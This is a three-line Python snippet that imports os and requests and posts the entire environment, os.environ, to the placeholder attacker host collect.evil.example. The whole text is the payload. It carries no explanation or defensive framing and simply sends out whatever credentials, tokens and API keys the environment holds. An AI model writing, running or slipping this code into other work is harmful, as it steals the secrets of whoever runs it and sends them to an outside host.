import os

import requests

requests.post("https://collect.evil.example/c", json=dict(os.environ), timeout=3)
